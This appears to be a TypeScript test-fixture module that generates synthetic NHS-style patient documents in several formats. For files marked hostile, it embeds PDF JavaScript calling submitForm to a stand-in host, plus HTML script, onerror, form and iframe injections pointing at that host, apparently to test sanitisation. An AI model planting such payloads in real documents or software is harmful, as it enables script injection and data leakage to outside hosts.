import type { CityPerson, DocumentFile } from '../people/told.ts'
import { pdfOf, type PdfLine } from './pdf.ts'
import { tracing } from './png.ts'

/** A document as a system keeps it. */
export interface WrittenDocument {
  readonly bytes: Buffer
  readonly contentType: string
  readonly pages: number
}

/** Who a letter is headed with: the person, unless the life says that it names them otherwise, or somebody else. */
export type Headed = Pick<CityPerson, 'name' | 'birthDate'> & { readonly nhsNumber: string }

const MARKUP: Readonly<Record<string, string>> = { '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' }
const safe = (text: string): string => text.replaceAll(/[&<>"]/g, sign => MARKUP[sign] ?? sign)
const spaced = (nhsNumber: string): string => nhsNumber.replace(/^(\d{3})(\d{3})(\d{4})$/, '$1 $2 $3')
const HOSTILE = 'app.alert("run"); this.submitForm("https://elsewhere.example/");'
const HOSTILE_MARKUP =
  '<script>document.title="run"</script><img src="https://elsewhere.example/pixel.gif" onerror="document.title=1"><form action="https://elsewhere.example/"><input name="q"></form><iframe src="https://elsewhere.example/"></iframe>'

const nameOf = ({ name }: Headed): string =>
  `${name.family.toUpperCase()}, ${name.given.join(' ')}${name.prefix ? ` (${name.prefix})` : ''}`
const bornOf = ({ birthDate }: Headed): string => birthDate.split('-').toReversed().join('/')

/** Writes one document of a life in the format that life says; it is headed by `holder` unless another wrote it. */
export function writeDocument(file: DocumentFile, title: string, holder: string, person: Headed): WrittenDocument {
  const from = file.from ?? holder
  const headed: Headed = { ...person, ...file.headed }
  const identity = [`Patient: ${nameOf(headed)}`, `Date of birth: ${bornOf(headed)}`, `NHS number: ${spaced(headed.nhsNumber)}`]
  if (file.kind === 'png') return { bytes: tracing(), contentType: 'image/png', pages: 1 }
  if (file.kind === 'cda') return { bytes: Buffer.from(cdaOf(file, title, from, headed)), contentType: 'application/xml', pages: 1 }
  if (file.kind === 'html') return { bytes: Buffer.from(htmlOf(file, title, from, identity)), contentType: 'text/html', pages: 1 }
  if (file.kind === 'text') {
    const bytes = Buffer.from([from, title, ...identity, '', ...file.paragraphs].join('\n'))
    return { bytes, contentType: 'text/plain; charset=utf-8', pages: 1 }
  }
  const lines: PdfLine[] = [
    { text: from },
    { text: title, heading: true },
    ...identity.map(text => ({ text })),
    { text: '' },
    ...file.paragraphs.flatMap(text => [{ text }, { text: '' }]),
  ]
  const bytes = pdfOf(lines, file.hostile === true ? HOSTILE : undefined)
  return { bytes, contentType: 'application/pdf', pages: bytes.toString('latin1').split('/Type /Page /').length - 1 }
}

function htmlOf(file: DocumentFile, title: string, from: string, identity: readonly string[]): string {
  const rows = identity.map(line => `<tr><td>${safe(line)}</td></tr>`).join('')
  const body = file.paragraphs.map(text => `<p>${safe(text)}</p>`).join('\n')
  return `<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>${safe(title)}</title><style>p{margin:8px}</style></head><body><h1>${safe(title)}</h1><p>${safe(from)}</p><table>${rows}</table>${body}${file.hostile === true ? HOSTILE_MARKUP : ''}</body></html>`
}

function cdaOf(file: DocumentFile, title: string, from: string, headed: Headed): string {
  const { name, birthDate, nhsNumber } = headed
  const sections = file.paragraphs
    .map(text => {
      const [heading = title, ...rest] = text.includes(': ') ? text.split(': ') : [title, text]
      return `<component><section><title>${safe(heading)}</title><text>${safe(rest.join(': '))}</text></section></component>`
    })
    .join('')
  return `<?xml version="1.0" encoding="UTF-8"?>
<ClinicalDocument xmlns="urn:hl7-org:v3"><title>${safe(title)}</title><recordTarget><patientRole><id root="2.16.840.1.113883.2.1.4.1" extension="${nhsNumber}"/><patient><name>${
    name.prefix === undefined ? '' : `<prefix>${safe(name.prefix)}</prefix>`
  }${name.given.map(given => `<given>${safe(given)}</given>`).join('')}<family>${safe(name.family)}</family></name><birthTime value="${birthDate.replaceAll('-', '')}"/></patient></patientRole></recordTarget><custodian><assignedCustodian><representedCustodianOrganization><name>${safe(from)}</name></representedCustodianOrganization></assignedCustodian></custodian><component><structuredBody>${sections}</structuredBody></component></ClinicalDocument>`
}
